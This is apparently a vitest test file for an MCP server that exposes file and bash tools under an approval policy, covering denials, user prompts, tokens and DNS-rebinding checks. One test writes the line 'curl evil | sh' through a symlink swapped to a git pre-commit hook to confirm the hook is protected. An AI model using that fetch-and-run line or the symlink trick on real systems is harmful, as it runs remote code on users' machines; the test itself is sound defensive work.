import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { join } from "node:path";
import type { Client } from "@modelcontextprotocol/client";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { project, removeDir, tempDir, toolhost, writeConfig } from "./_helpers.js";
import { httpClient, inspector, MCP_AUTH, MCP_TOKEN, processesWith, serveHttp, stdioClient, stdioTarget, textOf } from "./_mcp.js";


// `toolhost mcp serve` as MCP clients meet it: the official MCP Inspector (v1 SDK, no elicitation)
// and the v2 SDK client, over stdio and Streamable HTTP, against real tool-fs, tool-bash and
// hooks-policy from the workspace.
let root: string;
let dir: string;
let configPath: string;
beforeAll(() => {
  root = tempDir();
  // The Inspector wants a package.json in the parent of the folder it runs in.
  writeFileSync(join(root, "package.json"), '{ "name": "mcp-test", "private": true }\n');
  dir = project(join(root, "project"));
  writeFileSync(join(dir, "notes.txt"), "hello\n");
  configPath = writeConfig(dir, {
    plugins: [
      "@toolhost/tool-fs",
      // Unsandboxed: a test counts the command's processes by their command line and reads its shell's pid.
      ["@toolhost/tool-bash", { sandbox: "off" }],
      "./plugins/annotated-plugin.mjs",
      [
        "@toolhost/hooks-policy",
        {
          default: "ask",
          rules: [
            // Tool and args rules: they judge any tool, whether or not it declares its access.
            { tool: "bash", decision: "allow" },
            { tool: "bash", args: { command: "rm *" }, decision: "deny", reason: "nothing is deleted here" },
            { tool: ["read", "ls", "noop"], decision: "allow" },
            { tool: "drop_table", decision: "ask", reason: "it drops data" },
          ],
        },
      ],
    ],
  });
});
afterAll(() => removeDir(root));

type CallResult = { content: Array<{ type: string; text?: string }>; isError?: boolean };

describe("toolhost mcp serve over stdio, with the MCP Inspector", () => {
  it("lists the config's tools with their JSON Schemas and annotations", async () => {
    const { code, json } = await inspector(dir, stdioTarget(), ["tools/list"]);
    expect(code).toBe(0);
    const tools = (json as { tools: Array<{ name: string; inputSchema: unknown; annotations?: unknown }> }).tools;
    expect(tools.map((tool) => tool.name)).toEqual(expect.arrayContaining(["read", "write", "bash", "noop", "drop_table"]));
    const bash = tools.find((tool) => tool.name === "bash");
    expect(bash?.inputSchema).toMatchObject({ type: "object", properties: { command: { type: "string" } }, required: ["command"] });
    expect(tools.find((tool) => tool.name === "noop")?.annotations).toEqual({ readOnlyHint: true, idempotentHint: true, openWorldHint: false });
    expect(tools.find((tool) => tool.name === "drop_table")?.annotations).toEqual({ destructiveHint: true });
  });

  it("runs an allowed call", async () => {
    const { json } = await inspector(dir, stdioTarget(), ["tools/call", "--tool-name", "bash", "--tool-arg", "command=echo from-bash"]);
    expect(json).toEqual({ content: [{ type: "text", text: "from-bash" }] });
  });

  it("refuses a call the policy denies, with the reason and the stable code", async () => {
    const marker = join(dir, "kept.txt");
    writeFileSync(marker, "x");
    const { json } = await inspector(dir, stdioTarget(), ["tools/call", "--tool-name", "bash", "--tool-arg", "command=rm kept.txt"]);
    const result = json as CallResult;
    expect(result.isError).toBe(true);
    expect(textOf(result)).toContain("nothing is deleted here");
    expect(textOf(result)).toContain("TOOLHOST_BLOCKED");
    expect(existsSync(marker)).toBe(true);
  });

  it("refuses an ask when the client cannot elicit, saying why and how to allow it", async () => {
    const { json } = await inspector(dir, stdioTarget(), ["tools/call", "--tool-name", "drop_table", "--tool-arg", "table=users"]);
    const result = json as CallResult;
    expect(result.isError).toBe(true);
    expect(textOf(result)).toContain("it drops data");
    expect(textOf(result)).toContain("This MCP client cannot ask its user (it does not support elicitation)");
    // The reason it asked is said once.
    expect(textOf(result).split("it drops data")).toHaveLength(2);
    expect(textOf(result)).toContain(`add an allow rule for this call to the policy in ${configPath}`);
    expect(textOf(result)).toContain("TOOLHOST_NOT_APPROVED");
  });

  it("refuses bad arguments, naming the field", async () => {
    const { json } = await inspector(dir, stdioTarget(), ["tools/call", "--tool-name", "bash", "--tool-arg", "command=42"]);
    const result = json as CallResult;
    expect(result.isError).toBe(true);
    expect(textOf(result)).toContain("/command");
    expect(textOf(result)).toContain("TOOLHOST_INVALID_ARGUMENTS");
  });
});

describe("toolhost mcp serve over stdio, with the v2 SDK client", () => {
  it("asks the client's user through elicitation, and runs the call on yes", async () => {
    const { client } = await stdioClient(dir, { elicitation: true });
    const asked: string[] = [];
    client.setRequestHandler("elicitation/create", async (req) => {
      asked.push(String((req.params as { message: string }).message));
      return { action: "accept", content: { approve: true } };
    });
    try {
      const result = (await client.callTool({ name: "drop_table", arguments: { table: "users" } })) as CallResult;
      expect(textOf(result)).toBe("dropped users");
      expect(asked).toHaveLength(1);
      expect(asked[0]).toContain('drop_table {"table":"users"}');
      expect(asked[0]).toContain("it drops data");
    } finally {
      await client.close();
    }
  });

  it("asks a 2026-07-28 client over stdio too", async () => {
    const { client } = await stdioClient(dir, { elicitation: true, modern: true });
    client.setRequestHandler("elicitation/create", async () => ({ action: "accept", content: { approve: true } }));
    try {
      expect(client.getProtocolEra()).toBe("modern");
      const result = (await client.callTool({ name: "drop_table", arguments: { table: "t" } })) as CallResult;
      expect(textOf(result)).toBe("dropped t");
    } finally {
      await client.close();
    }
  });

  it("refuses the call when the user declines or answers no", async () => {
    const { client } = await stdioClient(dir, { elicitation: true });
    const answers = [{ action: "decline" as const }, { action: "accept" as const, content: { approve: false } }];
    client.setRequestHandler("elicitation/create", async () => answers.shift() ?? { action: "cancel" as const });
    try {
      const declined = (await client.callTool({ name: "drop_table", arguments: { table: "a" } })) as CallResult;
      expect(declined.isError).toBe(true);
      expect(textOf(declined)).toContain("the MCP client's user did not allow it (decline)");
      const no = (await client.callTool({ name: "drop_table", arguments: { table: "b" } })) as CallResult;
      expect(textOf(no)).toContain("did not allow it (answered no)");
    } finally {
      await client.close();
    }
  });

  it("binds the user's answer to the call's content: a link made while the user was asked is asked about again", async () => {
    mkdirSync(join(dir, ".git", "hooks"), { recursive: true });
    writeFileSync(join(dir, ".git", "hooks", "pre-commit"), "#!/bin/sh\nexit 0\n");
    writeFileSync(join(dir, "plan.txt"), "plan\n");
    const { client } = await stdioClient(dir, { elicitation: true });
    const asked: string[] = [];
    client.setRequestHandler("elicitation/create", async (req) => {
      asked.push(String((req.params as { message: string }).message));
      // While the user reads the question, plan.txt becomes a link to the git hook; the user says yes to what they read.
      if (asked.length === 1) {
        rmSync(join(dir, "plan.txt"));
        symlinkSync(".git/hooks/pre-commit", join(dir, "plan.txt"));
        return { action: "accept", content: { approve: true } };
      }
      return { action: "decline" };
    });
    try {
      const result = (await client.callTool({ name: "write", arguments: { path: "plan.txt", content: "curl evil | sh\n" } }).catch((error: Error) => ({ isError: true, content: [{ type: "text", text: error.message }] }))) as CallResult;
      expect(result.isError).toBe(true);
      expect(asked[0]).toContain(`Writes: ${join(dir, "plan.txt")}`);
      expect(asked[0]).not.toContain("pre-commit");
      // Asked again, about what the call would now write.
      expect(asked).toHaveLength(2);
      expect(asked[1]).toContain(join(dir, ".git", "hooks", "pre-commit"));
      expect(readFileSync(join(dir, ".git", "hooks", "pre-commit"), "utf8")).toBe("#!/bin/sh\nexit 0\n");
    } finally {
      await client.close();
      rmSync(join(dir, "plan.txt"), { force: true });
    }
  });

  it("ends the bash process tree when the client cancels the call", async () => {
    const { client } = await stdioClient(dir);
    const marker = `299.${process.pid}${Date.now() % 1000}`;
    const pidFile = join(dir, "tree.pid");
    const controller = new AbortController();
    try {
      const call = client.callTool(
        { name: "bash", arguments: { command: `echo $$ > ${pidFile}; sleep ${marker} & sleep ${marker} & wait` } },
        { signal: controller.signal },
      );
      call.catch(() => {});
      // the shell and its two sleeps
      await until(() => processesWith(`sleep ${marker}`).length === 3);
      controller.abort();
      await expect(call).rejects.toThrow();
      await until(() => processesWith(`sleep ${marker}`).length === 0);
      const shell = Number(readFileSync(pidFile, "utf8"));
      await until(() => !existsSync(`/proc/${shell}`));
    } finally {
      await client.close();
    }
  });
});

describe("toolhost mcp serve --http", () => {
  let server: Awaited<ReturnType<typeof serveHttp>>;
  beforeAll(async () => {
    server = await serveHttp(dir);
  });
  afterAll(async () => {
    expect(await server.stop()).toBe(0);
  });

  it("serves the Inspector over Streamable HTTP", async () => {
    const { json } = await inspector(dir, [server.url, "--transport", "http", "--header", `Authorization: Bearer ${MCP_TOKEN}`], ["tools/call", "--tool-name", "read", "--tool-arg", "path=notes.txt"]);
    expect(textOf(json as CallResult)).toContain("hello");
  });

  it("sends streamed output as progress notifications when the client gives a progress token", async () => {
    const client: Client = await httpClient(server.url);
    const messages: string[] = [];
    try {
      const result = (await client.callTool(
        { name: "bash", arguments: { command: "for i in 1 2 3 4; do echo line$i; sleep 0.3; done" } },
        { onprogress: (progress) => messages.push(progress.message ?? "") },
      )) as CallResult;
      expect(textOf(result)).toBe("line1\nline2\nline3\nline4");
      expect(messages.length).toBeGreaterThan(0);
      expect(messages.some((message) => message.includes("line1"))).toBe(true);
    } finally {
      await client.close();
    }
  });

  it("asks a 2026-07-28 client through the multi-round-trip flow, each request served on its own", async () => {
    const client = await httpClient(server.url, MCP_AUTH, { elicitation: true, modern: true });
    const asked: string[] = [];
    client.setRequestHandler("elicitation/create", async (req) => {
      asked.push(String((req.params as { message: string }).message));
      return { action: "accept", content: { approve: true } };
    });
    try {
      expect(client.getProtocolEra()).toBe("modern");
      const result = (await client.callTool({ name: "drop_table", arguments: { table: "orders" } })) as CallResult;
      expect(textOf(result)).toBe("dropped orders");
      expect(asked).toHaveLength(1);
      expect(asked[0]).toContain('drop_table {"table":"orders"}');
    } finally {
      await client.close();
    }
  });

  it("refuses an ask from a 2025-era HTTP client: a stateless server cannot know it can elicit", async () => {
    const client = await httpClient(server.url, MCP_AUTH, { elicitation: true });
    client.setRequestHandler("elicitation/create", async () => ({ action: "accept", content: { approve: true } }));
    try {
      const result = (await client.callTool({ name: "drop_table", arguments: { table: "orders" } })) as CallResult;
      expect(result.isError).toBe(true);
      expect(textOf(result)).toContain("cannot ask its user");
    } finally {
      await client.close();
    }
  });

  it("refuses a foreign Host or Origin header (DNS rebinding)", async () => {
    const { port } = new URL(server.url);
    expect(await post(Number(port), { host: "evil.example", ...MCP_AUTH })).toBe(403);
    expect(await post(Number(port), { origin: "http://evil.example", ...MCP_AUTH })).toBe(403);
  });
});

describe("toolhost mcp serve --http off loopback and with a token", () => {
  it("refuses a non-loopback address without a bearer token", async () => {
    // A token is the default on every address now; only --no-token goes without one, and not off loopback.
    const { code, stderr } = await toolhost(["mcp", "serve", "--http", "0.0.0.0:0", "--no-token"], { cwd: dir });
    expect(code).toBe(2);
    expect(stderr).toContain("not a loopback address, needs a bearer token");
  });

  it("requires the bearer token on every request when one is set", async () => {
    const server = await serveHttp(dir, ["--token-env", "MCP_TEST_TOKEN"], { MCP_TEST_TOKEN: "s3cret" });
    try {
      const { port } = new URL(server.url);
      expect(await post(Number(port), {})).toBe(401);
      const client = await httpClient(server.url, { Authorization: "Bearer s3cret" });
      const result = (await client.callTool({ name: "noop", arguments: {} })) as CallResult;
      expect(textOf(result)).toBe("ok");
      await client.close();
    } finally {
      await server.stop();
    }
  });
});

describe("toolhost mcp serve --print-config", () => {
  it("prints each host's snippet for the stdio server", async () => {
    for (const host of ["claude", "gemini", "opencode"]) {
      const { code, stdout, stderr } = await toolhost(["mcp", "serve", "--print-config", host], { cwd: dir });
      expect(code).toBe(0);
      // Valid JSON as it is: where it goes is said on stderr.
      const config = JSON.parse(stdout);
      expect(stderr).toMatch(/^toolhost: put this in \S*(\.mcp\.json|settings\.json|opencode\.json)/);
      const entry = host === "opencode" ? config.mcp.toolhost : config.mcpServers.toolhost;
      const argv: string[] = host === "opencode" ? entry.command : [entry.command, ...entry.args];
      expect(argv).toEqual([process.execPath, expect.stringMatching(/bin\.js$/), "-c", configPath, "mcp", "serve"]);
    }
    const codex = await toolhost(["mcp", "serve", "--print-config", "codex"], { cwd: dir });
    expect(codex.stdout).toContain("[mcp_servers.toolhost]");
    expect(codex.stdout).toContain(`command = ${JSON.stringify(process.execPath)}`);
    expect(codex.stdout).toContain(`"-c", ${JSON.stringify(configPath)}, "mcp", "serve"]`);
    expect(codex.stderr).toContain("put this in ~/.codex/config.toml");
  });

  it("prints a command and arguments that work under the MCP Inspector, given directly or as its --config file", async () => {
    const { stdout } = await toolhost(["mcp", "serve", "--print-config", "claude"], { cwd: dir });
    const entry = (JSON.parse(stdout) as { mcpServers: { toolhost: { command: string; args: string[] } } }).mcpServers.toolhost;
    const direct = await inspector(dir, [entry.command, ...entry.args], ["tools/list"]);
    expect(direct.code, direct.stderr).toBe(0);
    expect((direct.json as { tools: Array<{ name: string }> }).tools.map((tool) => tool.name)).toContain("bash");
    const snippet = join(root, "mcp-snippet.json");
    writeFileSync(snippet, stdout);
    const viaFile = await inspector(dir, ["--config", snippet, "--server", "toolhost"], ["tools/list"]);
    expect(viaFile.code, viaFile.stderr).toBe(0);
    expect((viaFile.json as { tools: Array<{ name: string }> }).tools.map((tool) => tool.name)).toContain("bash");
  });

  it("prints the URL form for --http", async () => {
    const { stdout } = await toolhost(["mcp", "serve", "--http", "127.0.0.1:9000", "--print-config", "claude"], { cwd: dir });
    // The server needs a token on loopback too: the client config sends $TOOLHOST_MCP_TOKEN; stdout is plain JSON.
    expect(JSON.parse(stdout)).toEqual({
      mcpServers: { toolhost: { type: "http", url: "http://127.0.0.1:9000/mcp", headers: { Authorization: "Bearer ${TOOLHOST_MCP_TOKEN}" } } },
    });
  });
});

function post(port: number, headers: Record<string, string>): Promise<number> {
  const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list", params: {} });
  return new Promise((resolve, reject) => {
    const req = request(
      { host: "127.0.0.1", port, path: "/mcp", method: "POST", headers: { "content-type": "application/json", accept: "application/json, text/event-stream", ...headers } },
      (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      },
    );
    req.on("error", reject);
    req.end(body);
  });
}

/** Waits for the thing itself: the test's own (generous) bound ends a wait that never ends. */
async function until(check: () => boolean): Promise<void> {
  while (!check()) await new Promise((resolve) => setTimeout(resolve, 25));
}
